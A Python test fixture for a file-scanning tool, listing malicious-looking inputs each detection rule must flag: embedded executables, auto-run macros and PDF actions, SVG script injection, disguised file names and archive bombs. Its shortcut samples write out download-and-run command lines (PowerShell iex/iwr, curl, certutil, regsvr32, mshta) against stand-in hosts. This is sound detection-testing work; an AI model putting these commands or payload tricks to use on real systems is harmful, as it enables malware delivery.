"""For every built-in rule: files that it has to match."""

import zipfile
from collections.abc import Mapping, Sequence
from typing import Final

from tests.rules.archives import (
    EICAR,
    MIB,
    Member,
    encrypted_zip,
    gzip_bomb,
    overlapping_zip,
    ratio_bomb,
    streamed_zip,
    zip_members,
    zip_of,
)
from tests.rules.builders import Builder, a_link, a_pdf, a_svg, named
from tests.rules.documents import ole, ooxml, pdf, rtf, rtf_object, stream, svg, svg_text, vba
from tests.rules.formats import bmp, form, gif, jpeg, png, webp
from tests.rules.programs import dicom, elf, pe

OVERRIDE: Final = "\N{RIGHT-TO-LEFT OVERRIDE}"

POSITIVE: Final[Mapping[str, Sequence[Builder]]] = {
    "Ostiary_Eicar_TestFile": [lambda: EICAR, lambda: EICAR + b" \t\r\n\x1a", lambda: EICAR.ljust(128)],
    "Ostiary_Eicar_ZipMember": [
        lambda: zip_of({"eicar.com": EICAR}),
        lambda: zip_of({"eicar.com": EICAR}, method=zipfile.ZIP_STORED),
        lambda: streamed_zip("eicar.com", EICAR),
        lambda: encrypted_zip("eicar.com", EICAR),
        lambda: zip_of({"inner.zip": zip_of({"eicar.com": EICAR})}, method=zipfile.ZIP_STORED),
    ],
    "Ostiary_Image_With_Executable": [
        lambda: png() + pe(),
        lambda: jpeg() + pe(machine=0x14C),
        lambda: gif() + b"padding" + elf(),
        lambda: webp() + elf(big_endian=True),
        lambda: bmp() + pe(offset=0x1F8),
        lambda: b"II*\0\x08\0\0\0" + pe(machine=0xAA64),
        lambda: pdf(b"", stream(pe(), b"/Type /EmbeddedFile")),
        lambda: png() + b"PE\0\0\x64\x86\1" * 300 + pe(),
    ],
    "Ostiary_Polyglot_Dicom_Executable": [
        lambda: dicom(pe(offset=0x100))[:160] + pe(offset=0x100)[160:],
        lambda: dicom(elf()),
    ],
    "Ostiary_Polyglot_Pdf_Executable": [lambda: pe(dos=b"%PDF-1.4\n%\n", offset=0x100) + form()],
    "Ostiary_Office_Macro_AutoRun": [
        lambda: vba("Module1 AutoOpen Shell"),
        lambda: vba("ThisWorkbook Workbook_Open"),
        lambda: zip_of({"word/vbaProject.bin": vba("Document_Open")}, method=zipfile.ZIP_STORED),
    ],
    "Ostiary_Office_Macro": [lambda: vba("Module1 Calculate"), lambda: vba("Document_Open")],
    "Ostiary_Office_Xlm_AutoRun": [
        lambda: ole(
            {
                "Workbook": b"\x09\x08\x10\0\0\6\5\0"
                + bytes(12)
                + b"\x85\0\x0e\0"
                + bytes(4)
                + b"\2\1\6\0Macro1"
                + b"\x18\0\x17\0\x20\0\0\1\7\0\0\0\0\0\0\0\0\0\0\1:\0\0\0\0\0\0"
            }
        )
    ],
    "Ostiary_Rtf_Equation": [
        lambda: rtf_object(b"\\objemb\\objupdate", b"Equation.3", b"\x1c\0" * 90),
        lambda: rtf(b"{\\object\\objupdate{\\*\\objdata 02CE020000000000C000000000000046}}"),
    ],
    "Ostiary_Rtf_LinkedObject": [
        lambda: rtf_object(b"\\objautlink\\objupdate", b"OLE2Link", "http://192.0.2.1/a".encode("utf-16-le")),
    ],
    "Ostiary_Rtf_Embedded_Program": [
        lambda: rtf_object(
            b"\\objemb", b"Package", b"\2\0invoice.EXE".lower() + b"\0C:\\invoice.exe\0" + pe()
        ),
    ],
    "Ostiary_Office_RemoteObject": [
        lambda: zip_of(
            {
                "word/_rels/document.xml.rels": b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument'
                b'/2006/relationships/oleObject" Target="mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html"'
                b' TargetMode="External"/>'
            },
            method=zipfile.ZIP_STORED,
        ),
        lambda: (
            b'<?xml version="1.0"?><Relationship Target="https://192.0.2.1/a.html!" TargetMode="External" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"/>'
        ),
        lambda: (
            b'<?xml version="1.0"?><r:Relationship Target="styles.xml"/>'
            b'<r:Relationship\nType="relationships/oleObject" Target="https://192.0.2.1/a.html!"/>'
            b'<r:Relationship Target="theme.xml"/>'
        ),
    ],
    "Ostiary_Pdf_Launch": [
        a_pdf(b"/OpenAction << /Type /Action /S /Launch /F (notes.doc) >>"),
        a_pdf(b"/OpenAction 4 0 R", b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        a_pdf(b"", b"<< /A << /F (setup.exe)\n/S\r\n/L#61un#63h >> >>"),
        a_pdf(b"", b"<< /S /Launch /F (\xfe\xff\0a\0.\0e\0x\0e) >>"),
        a_pdf(b"", b"<< /S /Launch /F <FEFF0061002E006500780065> >>"),
        a_pdf(b"", b"<< /S /Launch /F (/bin/bash ) >>"),
    ],
    "Ostiary_Pdf_AutoRun_JavaScript": [
        a_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        a_pdf(b"/OpenAction << /JS 4 0 R /S /JavaScript >>", stream(b"app.alert(1)")),
        a_pdf(b"/Open#41ction<</S/J#61vaScript/JS(x)>>"),
        a_pdf(b"/OpenAction 4 0 R", b"<< /Type /Action /S /JavaScript /JS 5 0 R >>", stream(b"x")),
        a_pdf(b"/OpenAction\n\n13  0 R", *[b"<< >>"] * 9, b"<</S/JavaScript/JS(eval\\(x\\))>>"),
        a_pdf(b"", page=b"/AA << /O << /S /JavaScript /JS (x\\(\\)) >> >>"),
        a_pdf(b"/OpenAction << /S /JavaScript /JS (print\\(\\);) /Next << /S /JavaScript /JS (x) >> >>"),
    ],
    "Ostiary_Pdf_Dropper_JavaScript": [
        a_pdf(b"", b'<< /S /JavaScript /JS (this.exportDataObject\\({ cName: "a", nLaunch: 2 }\\);) >>'),
    ],
    "Ostiary_Pdf_Embedded_Program": [
        a_pdf(b"", b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>", stream(b"x")),
        a_pdf(b"", b"<< /UF (\xfe\xff\0a\0.\0s\0c\0r) /#45F << /F 5 0 R >> >>", stream(b"x")),
        a_pdf(b"", b"<< /EF << /F 5 0 R >> /UF <feff0061002e006500780065> >>", stream(b"x")),
    ],
    "Ostiary_Svg_Script": [
        a_svg("<script>alert(1)</script>"),
        a_svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="//x.example/"/>', prolog="\n\n"),
        a_svg(prolog='<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'),
        a_svg("<script>x</script>", prolog="<!-- <html><body> -->"),
        lambda: svg("<script>x</script>", prolog='<!DOCTYPE svg [<!ENTITY a "<html>">]>'),
        lambda: svg("<script>x</script>", prolog="<?pi <html >?>"),
        lambda: svg("<script>x</script>", prolog="<?pi < <<html >?><!-- <p > --><?pi <p ?>"),
        lambda: svg_text("<script>x</script>", prolog="<?pi <html >?>").encode("utf-16"),
        lambda: svg("<script>x</script>", prolog="<!--x-->" * 300 + "<!-- <html> -->"),
        lambda: svg("<script>x</script>", prolog="<!--x-->" * 3000 + "<!-- <html> -->"),
        lambda: b"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script/></s:svg>",
        lambda: svg_text("<script>x</script>", prolog='<?xml version="1.0"?>').encode("utf-16"),
        lambda: b"\xfe\xff" + svg_text("<script>x</script>").encode("utf-16-be"),
        lambda: b"\xef\xbb\xbf" + svg("<script>x</script>"),
    ],
    "Ostiary_Svg_EventHandler": [
        a_svg(attributes='onload="alert(1)"'),
        a_svg("<rect\nonmouseover\n=\n'go()'/>"),
        lambda: svg_text(attributes="onbegin='x'").encode("utf-16-le"),
    ],
    "Ostiary_Svg_ScriptUrl": [
        a_svg('<a xlink:href="javascript:alert(1)"><rect/></a>'),
        a_svg('<a href=" JavaScript:alert(1)"><rect/></a>'),
        a_svg('<a href="&#x6A;avascript:alert(1)"><rect/></a>'),
        a_svg('<a href="java&#10;script:alert(1)"><rect/></a>'),
        a_svg('<animate attributeName="href" values="x;javascript:alert(1)"/>'),
        a_svg('<a href="data:text/html;base64,PHNjcmlwdD4="><rect/></a>'),
        a_svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x"/>'),
    ],
    "Ostiary_Svg_Frame": [
        a_svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/></foreignObject>'),
        a_svg('<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="a.html"/>'),
    ],
    "Ostiary_Svg_HiddenMarkup": [
        a_svg("&a;", prolog='<!DOCTYPE svg [<!ENTITY a "&#x3c;script>alert(1)&#60;/script>">]>'),
        a_svg("&a;", prolog="<!DOCTYPE svg [<!ENTITY a '<g &#111;nload=\"x\"/>'>]>"),
    ],
    "Ostiary_Lnk_Dropper": [
        a_link("..\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -c calc"),
        a_link("powershell.exe", "-e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
        a_link("powershell.exe", "iex (iwr 192.0.2.1/a)", unicode=False),
        a_link("cmd.exe", "/c curl http://192.0.2.1/a -o %temp%\\a.exe & %temp%\\a.exe"),
        a_link("..\\System32\\mshta.exe", "https://x.example/a.hta"),
        a_link("rundll32.exe", "\\\\192.0.2.1\\share\\a.dll,Start"),
        a_link("regsvr32.exe", "/s /u /i:https://x.example/a.sct scrobj.dll"),
        a_link("wscript.exe", "//e:jscript a.txt"),
        a_link("certutil.exe", "-urlcache -f https://x.example/a a.exe"),
    ],
    "Ostiary_Hta_Dropper": [
        lambda: b'<hta:application id="a"><script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
        lambda: '\n<hta:application/><script>new ActiveXObject("MSXML2.XMLHTTP")</script>'.encode("utf-16"),
        lambda: pe() + b"<HTA:APPLICATION><script>s = new ActiveXObject('Shell.Application')</script>",
    ],
    "Ostiary_Zip_Name_DoubleExtension": [
        named("photo.jpg.exe"),
        named("a/b/Invoice.PDF.Scr"),
        named("report.docx" + " " * 60 + ".lnk"),
        named("scan\N{IDEOGRAPHIC SPACE}" + "\N{EM SPACE}" * 20 + ".exe"),
        named("order.xlsx.js"),
        named("order.pdf.jse"),
        named("x.pdf.exe.pdf.exe"),
        lambda: b"\x89PNG" + zip_of({"letter.pdf.bat": b"x"}),
        lambda: zip_of({f"{number}.pdf.exe": b"" for number in range(300)}),
    ],
    "Ostiary_Zip_Name_RightToLeft": [
        named(f"photo_{OVERRIDE}gnp.exe"),
        named(f"letters/{OVERRIDE}fdp.js"),
    ],
    "Ostiary_Zip_Encrypted": [
        lambda: encrypted_zip("a.txt", b"hello"),
        lambda: pe() + encrypted_zip("a.txt", b"hello"),
        lambda: zip_members([Member(b"a", b"x", 1, 1, 0), Member(b"b", b"secret" * 9, 0, 30, 99, 1)]),
    ],
    "Ostiary_Zip_Office_Macro": [
        lambda: ooxml("word/document.xml", extra={"word/vbaProject.bin": vba("Document_Open")}),
        lambda: ooxml("xl/workbook.xml", extra={"xl/macrosheets/sheet1.xml": b"<x/>"}),
    ],
    "Ostiary_Zip_Bomb_Ratio": [
        lambda: ratio_bomb(257 * MIB),
        lambda: ratio_bomb(33 * MIB, count=9),
        lambda: zip_members([Member(b"a", b"x" * 99, 1, 0xFFFFFFFF)]),
    ],
    "Ostiary_Zip_Bomb_Overlap": [
        lambda: overlapping_zip(12, 2 * MIB),
        lambda: overlapping_zip(3, 2 * MIB),
    ],
    "Ostiary_Zip_Bomb_Nested": [
        lambda: zip_of(
            dict.fromkeys([f"lib {number:x}.zip" for number in range(16)], zip_of({"book.zip": b"x"}))
        ),
    ],
    "Ostiary_Zip_Bomb_Members": [
        lambda: zip_members([Member(b"a", b"", 0, 0, 0)] * 65537),
    ],
    "Ostiary_Gzip_Bomb_Ratio": [lambda: gzip_bomb(257 * MIB)],
}
